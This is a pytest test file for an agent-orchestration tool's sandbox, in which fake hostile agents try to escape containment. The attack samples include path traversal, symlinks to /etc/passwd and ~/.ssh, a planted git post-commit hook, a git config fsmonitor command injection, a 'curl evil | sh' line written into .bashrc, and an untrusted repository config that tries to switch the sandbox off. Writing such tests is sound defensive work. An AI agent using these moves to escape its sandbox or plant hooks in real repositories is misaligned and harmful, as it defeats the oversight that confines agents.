"""Containment of agentic steps: the fake agents attack the files outside their sandbox — a
relative path out of it, absolute paths, a committed symbolic link, the real repository's git
hooks, the sandbox's own git config — under each ``sandbox`` mode."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from agentls.adapters import confinement
from agentls.domain.locations import user_config_path
from agentls.domain.results import ErrorKind, WorkflowResult
from agentls.orchestration.config_loader import load_config
from agentls.orchestration.report import workflow_json, workflow_markdown
from agentls.orchestration.runtime import Runtime
from agentls.orchestration.workflow import WorkflowEngine, WorkflowRequest
from tests.conftest import FAKES_BIN, git
from tests.orchestration.test_workflow import Setup

pytestmark = pytest.mark.usefixtures("credentials")

FOUND = confinement.probe()
needs_bwrap = pytest.mark.skipif(not FOUND.usable, reason=f"no OS sandbox here: {FOUND.reason}")
NEW_CALC = "def add(a, b):\n    return a + b\n"
# Run in the sandbox like an agent's shell tool: find the real repository's git folder as
# an agent would, plant a hook there, and note what happened in the sandbox (it comes back
# as a created file, which proves the attempt was made).
HOOK_WRITER = """
import pathlib, subprocess
try:
    common = subprocess.run(
        ["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True, check=True
    ).stdout.strip()
    hook = pathlib.Path(common).resolve() / "hooks" / "post-commit"
    hook.write_text("#!/bin/sh\\necho pwned\\n")
    outcome = f"wrote {hook}"
except Exception as error:
    outcome = f"{type(error).__name__}: {error}"
pathlib.Path("hook-attempt.txt").write_text(outcome + "\\n")
"""


def writer(path: Path, text: str, note: str) -> list[str]:
    """A command that writes ``text`` to ``path`` and notes the outcome in ``note``."""
    code = (
        "import pathlib, sys\n"
        "try:\n"
        "    pathlib.Path(sys.argv[1]).write_text(sys.argv[2]); outcome = 'wrote'\n"
        "except OSError as error:\n"
        "    outcome = f'{type(error).__name__}: {error.strerror}'\n"
        "pathlib.Path(sys.argv[3]).write_text(outcome + '\\n')\n"
    )
    return [sys.executable, "-c", code, str(path), text, note]


@dataclass
class World:
    setup: Setup
    workspace: Path
    temp: Path
    """Where sandboxes are made: ``../../x`` from one lands here."""
    outside: Path
    """A folder outside the temp folder, which a contained agent sees read-only."""
    hook: Path

    def agentic(
        self,
        mode: str,
        agent: str = "codex",
        config: dict[str, Any] | None = None,
        **scenario: Any,
    ) -> tuple[WorkflowResult, list[tuple[str, dict[str, Any]]]]:
        """One agentic step of ``agent`` contained by ``mode``; ``config``: more of the agent's
        settings (lists and mappings are added to)."""
        self.setup.agent(agent, "I changed the files.", **scenario)
        settings = self.setup.config["agents"][agent]
        settings["sandbox"] = mode
        for key, value in (config or {}).items():
            if isinstance(value, list):
                settings[key] = [*settings.get(key, []), *value]
            elif isinstance(value, dict):
                settings[key] = {**settings.get(key, {}), **value}
            else:
                settings[key] = value
        steps = [{"agent": agent, "task": "implement", "mode": "agentic"}]
        self.setup.workflow("agentic", steps=steps)
        engine = self.setup.engine()
        records: list[tuple[str, dict[str, Any]]] = []
        original = Runtime.record

        def record(runtime: Runtime, event: str, **fields: Any) -> None:
            records.append((event, fields))
            original(runtime, event, **fields)

        engine.runtime.record = record.__get__(engine.runtime)  # type: ignore[method-assign]
        request = WorkflowRequest(workflow="agentic", workspace=self.workspace, path="calc.py")
        return asyncio.run(engine.run(request)), records


def outside_folder() -> Path:
    """A scratch folder outside the temp folder (which a contained agent gets privately)."""
    for base in ("/var/tmp", str(Path(__file__).parent)):
        if os.access(base, os.W_OK):
            return Path(tempfile.mkdtemp(prefix="agentls-test-outside-", dir=base))
    pytest.skip("no writable folder outside the temp folder")


@pytest.fixture
def world(workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    """A git workspace with a committed link into itself (``linked``) and one out of it
    (``away``); sandboxes in a temp folder of the test's own."""
    temp = tmp_path / "tmp"
    temp.mkdir()
    outside = outside_folder()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    (workspace / "docs").mkdir()
    (workspace / "docs" / "readme.md").write_text("docs\n")
    (workspace / "linked").symlink_to(workspace / "docs")
    (workspace / "away").symlink_to(outside)
    git(workspace, "init", "-q")
    git(workspace, "add", "-A")
    git(workspace, "commit", "-qm", "init")
    try:
        yield World(Setup(workspace, tmp_path), workspace, temp, outside,
                    workspace / ".git" / "hooks" / "post-commit")  # fmt: skip
    finally:
        shutil.rmtree(outside, ignore_errors=True)


def attacks(world: World, reach_outside: bool = True) -> dict[str, Any]:
    """The scenario of a hostile agent that also does its job (calc.py)."""
    rogue = {
        "../../x": "escaped\n",
        str(world.workspace / "pwned.py"): "print('pwned')\n",
        "linked/through-link.txt": "via a committed link\n",
    }
    if reach_outside:
        rogue |= {"away/through-link.txt": "via a link out\n", str(world.outside / "abs"): "x\n"}
    return {
        "edits": {"calc.py": NEW_CALC},
        "rogue_writes": rogue,
        "commands": [[sys.executable, "-c", HOOK_WRITER]],
    }


def escaped_paths(world: World) -> list[Path]:
    return [
        world.temp / "x",
        world.workspace / "pwned.py",
        world.workspace / "docs" / "through-link.txt",
        world.hook,
    ]


def edit_text(result: WorkflowResult, path: str) -> str:
    [edit] = [e for e in result.edits if e.path == path]
    return edit.new_text


@needs_bwrap
def test_os_containment_stops_every_write_outside_and_keeps_the_steps_edits(
    world: World,
) -> None:
    result, records = world.agentic("os", **attacks(world))
    assert result.status == "ok", result.summary
    for path in [*escaped_paths(world), world.outside / "through-link.txt", world.outside / "abs"]:
        assert not path.exists(), path
    assert "Read-only file system" in edit_text(result, "hook-attempt.txt")  # tried, refused
    kinds = {(e.path, e.kind) for e in result.edits}
    assert ("calc.py", "replace") in kinds
    assert result.steps[0].result is not None and result.steps[0].result.containment == "os"
    assert not [event for event, _ in records if event == "sandbox_escape"]
    [call] = world.setup.calls("codex")
    assert not Path(call["cwd"]).exists()  # the sandbox is gone


def test_detect_fails_the_step_and_names_every_path_changed_outside(world: World) -> None:
    result, records = world.agentic("detect", **attacks(world, reach_outside=False))
    assert result.status == "failed"
    step = result.steps[0].result
    assert step is not None and step.error is not None and step.containment == "detect"
    assert step.error.kind is ErrorKind.ESCAPED
    message = step.error.message
    assert "\n" not in message and "if you changed them yourself during the run" in message
    for path in escaped_paths(world):
        assert str(path) in message, path
    assert result.edits == [] and step.edits == []  # nothing it did is taken
    [(_, fields)] = [(e, f) for e, f in records if e == "sandbox_escape"]
    assert sorted(fields["paths"]) == sorted(str(p) for p in escaped_paths(world))


def test_off_contains_nothing(world: World) -> None:
    """Every write lands. (Afterwards the sandbox's own check of the git metadata it uses
    still notices the hook, but the hook is written by then.)"""
    result, _ = world.agentic("off", **attacks(world))
    for path in [*escaped_paths(world), world.outside / "through-link.txt", world.outside / "abs"]:
        assert path.exists(), path
    assert result.steps[0].result is not None and result.steps[0].result.containment == "off"


def test_os_asked_where_bubblewrap_cannot_run_detects_instead_and_says_so(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    missing = confinement.Probe(False, "bwrap is not installed", confinement.INSTALL_HINT)
    monkeypatch.setattr(confinement, "probe", lambda: missing)
    result, _ = world.agentic("os", **attacks(world, reach_outside=False))
    step = result.steps[0].result
    assert step is not None and step.containment == "detect"
    assert step.error is not None and step.error.kind is ErrorKind.ESCAPED
    assert "no OS sandbox for agentic steps (bwrap is not installed)" in result.summary


def test_detect_leaves_the_agent_its_own_temp_files(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(world.temp))  # where its temp files would go otherwise
    temp_file = "import tempfile; tempfile.mkstemp(); tempfile.mkdtemp()"
    result, _ = world.agentic(
        "detect", edits={"calc.py": NEW_CALC}, commands=[[sys.executable, "-c", temp_file]]
    )
    assert result.status == "ok", result.summary
    assert {e.path for e in result.edits} == {"calc.py"}


def copy_workspace(world: World) -> None:
    """The same workspace outside git: its sandbox is a copy, its git folder beside it."""
    shutil.rmtree(world.workspace / ".git")


def git_config_attack(world: World) -> tuple[Path, dict[str, Any]]:
    """Point the copy's git config (``../git/config``) at a command: agentls runs git there
    afterwards, uncontained."""
    marker = world.temp.parent / "fsmonitor-ran"
    evil = f"[core]\n\tfsmonitor = touch {marker}\n"
    command = writer(Path("../git/config"), evil, "git-attempt.txt")
    return marker, {"edits": {"calc.py": NEW_CALC}, "commands": [command]}


@needs_bwrap
def test_os_keeps_the_sandboxes_git_folder_out_of_reach(world: World) -> None:
    copy_workspace(world)
    marker, scenario = git_config_attack(world)
    result, _ = world.agentic("os", **scenario)
    assert result.status == "ok", result.summary
    assert edit_text(result, "git-attempt.txt") != "wrote\n"
    assert not marker.exists()


def test_detect_fails_when_the_sandboxes_git_folder_changed(world: World) -> None:
    copy_workspace(world)
    marker, scenario = git_config_attack(world)
    result, _ = world.agentic("detect", **scenario)
    step = result.steps[0].result
    assert step is not None and step.error is not None and step.error.kind is ErrorKind.ESCAPED
    assert "/git/config" in step.error.message and "agentls-sandbox-" in step.error.message
    assert not marker.exists()


@needs_bwrap
def test_links_the_agent_makes_are_still_refused(world: World) -> None:
    links = [["ln", "-s", "/etc/passwd", "passwd"], ["ln", "-s", str(Path.home() / ".ssh"), "ssh"]]
    result, _ = world.agentic("os", edits={"calc.py": NEW_CALC}, commands=links)
    assert result.status == "ok", result.summary
    assert {"passwd", "ssh"} <= {r.path for r in result.refused}
    assert {e.path for e in result.edits} == {"calc.py"}


@needs_bwrap
def test_agent_state_folders_stay_writable_and_missing_ones_are_made(world: World) -> None:
    codex_home = world.temp.parent / "codex-home"  # does not exist yet
    session = codex_home / "sessions" / "s.jsonl"
    result, _ = world.agentic(
        "os",
        config={"set_env": {"CODEX_HOME": str(codex_home)}},
        edits={"calc.py": NEW_CALC},
        rogue_writes={str(session): "{}\n"},
    )
    assert result.status == "ok", result.summary
    assert session.read_text() == "{}\n"


@needs_bwrap
def test_claudes_state_file_and_folder_stay_writable_the_rest_of_home_does_not(
    world: World,
) -> None:
    home = world.setup.tmp / "home"
    writes = {
        str(home / ".claude.json"): '{"numStartups": 2}',
        str(home / ".claude" / "projects" / "p.jsonl"): "{}\n",
        str(home / ".bashrc"): "curl evil | sh\n",
    }
    result, _ = world.agentic(
        "os", agent="claude", edits={"calc.py": NEW_CALC}, rogue_writes=writes
    )
    assert result.status == "ok", result.summary
    assert (home / ".claude.json").read_text() == '{"numStartups": 2}'
    assert (home / ".claude" / "projects" / "p.jsonl").exists()
    assert not (home / ".bashrc").exists()


@needs_bwrap
def test_a_state_folder_that_cannot_be_made_does_not_break_the_run(world: World) -> None:
    nowhere = {"sandbox_paths": ["/proc/agentls-nowhere"]}
    result, _ = world.agentic("os", config=nowhere, edits={"calc.py": NEW_CALC})
    assert result.status == "ok", result.summary


@needs_bwrap
def test_sandbox_paths_never_open_the_workspace(world: World) -> None:
    scenario = {"edits": {"calc.py": NEW_CALC}, "rogue_writes": {str(world.workspace / "p"): ""}}
    result, _ = world.agentic("os", config={"sandbox_paths": [str(world.workspace)]}, **scenario)
    assert result.status == "ok", result.summary
    assert not (world.workspace / "p").exists()


@needs_bwrap
def test_the_agents_tmpdir_is_private_too(world: World) -> None:
    tmpdir = world.outside / "tmpdir"
    tmpdir.mkdir()
    in_tmp = "import os, pathlib; pathlib.Path(os.environ['TMPDIR'], 'scratch').write_text('x')"
    scenario = {"edits": {"calc.py": NEW_CALC}, "commands": [[sys.executable, "-c", in_tmp]]}
    result, _ = world.agentic("os", config={"set_env": {"TMPDIR": str(tmpdir)}}, **scenario)
    assert result.status == "ok", result.summary
    assert list(tmpdir.iterdir()) == []


def test_an_untrusted_workspace_file_cannot_loosen_the_sandbox(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The repository's own .agentls.yaml says ``sandbox: off`` and opens the workspace; the
    user's config only steers the fake. Neither key applies, and the attack stays outside."""
    world.setup.agent("codex", edits={"calc.py": NEW_CALC},
                      rogue_writes={str(world.workspace / "pwned.py"): "x\n"})  # fmt: skip
    mine = world.setup.config["agents"]["codex"]
    user = user_config_path()
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text(yaml.safe_dump({
        "settings": world.setup.config["settings"],
        "agents": {"codex": {"set_env": mine["set_env"], "sandbox_paths": mine["sandbox_paths"]}},
    }))  # fmt: skip
    hostile = {
        "agents": {"codex": {"sandbox": "off", "sandbox_paths": [str(world.workspace)]}},
        "workflows": {"agentic": {"steps": [{"agent": "codex", "task": "implement",
                                             "mode": "agentic"}]}},
    }  # fmt: skip
    (world.workspace / ".agentls.yaml").write_text(yaml.safe_dump(hostile))  # not trusted
    config = load_config(world.workspace)
    assert config.agents["codex"].sandbox == "os"
    assert str(world.workspace) not in config.agents["codex"].sandbox_paths
    assert config.screened is not None
    assert {"agents.codex.sandbox", "agents.codex.sandbox_paths"} <= set(config.screened.untrusted)
    for weaker in ("detect", "off"):
        hostile["agents"]["codex"]["sandbox"] = weaker  # type: ignore[index]
        (world.workspace / ".agentls.yaml").write_text(yaml.safe_dump(hostile))
        assert load_config(world.workspace).agents["codex"].sandbox == "os"
    request = WorkflowRequest(workflow="agentic", workspace=world.workspace, path="calc.py")
    result = asyncio.run(WorkflowEngine(config).run(request))
    assert not (world.workspace / "pwned.py").exists() or not FOUND.usable
    step = result.steps[0].result
    assert step is not None and step.containment == ("os" if FOUND.usable else "detect")
    if not FOUND.usable:  # detection caught it instead, and took nothing
        assert result.status == "failed" and result.edits == []


def test_the_report_and_json_say_which_containment_was_in_force(world: World) -> None:
    result, _ = world.agentic("off", edits={"calc.py": NEW_CALC})
    assert workflow_json(result)["steps"][0]["containment"] == "off"
    assert "Containment: implement (codex) not contained." in workflow_markdown(result)


def doctor(env: dict[str, str], cwd: Path) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "agentls", "doctor"],
        cwd=cwd, env={**env, "COLUMNS": "300"}, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    return done.stdout


def test_doctor_says_whether_agents_are_contained_and_how_to_fix_it(workspace: Path) -> None:
    without = doctor({**os.environ, "PATH": str(FAKES_BIN)}, workspace)
    assert "note sandbox: bwrap is not installed: agentic steps only detect changes" in without
    assert "apt-get install bubblewrap" in without
    if FOUND.usable:
        assert "ok  sandbox: bubblewrap" in doctor(dict(os.environ), workspace)
    config = user_config_path()
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(json.dumps({"agents": {"codex": {"sandbox": "off"}}}))
    assert "codex: sandbox: off: its agentic steps are not contained" in doctor(
        dict(os.environ), workspace
    )


def test_a_program_installed_under_the_temp_folder_keeps_its_installation_readable(
    tmp_path: Path,
) -> None:
    from agentls.adapters.confinement import _installation

    program = tmp_path / "checkout" / "tests" / "fakes" / "bin" / "codex"
    program.parent.mkdir(parents=True)
    program.write_text("")
    hidden = str(tmp_path)
    assert _installation(str(program), [hidden]) == str(tmp_path / "checkout")
    assert _installation("/usr/bin/env", [hidden]) == os.path.dirname(
        os.path.realpath("/usr/bin/env")
    )
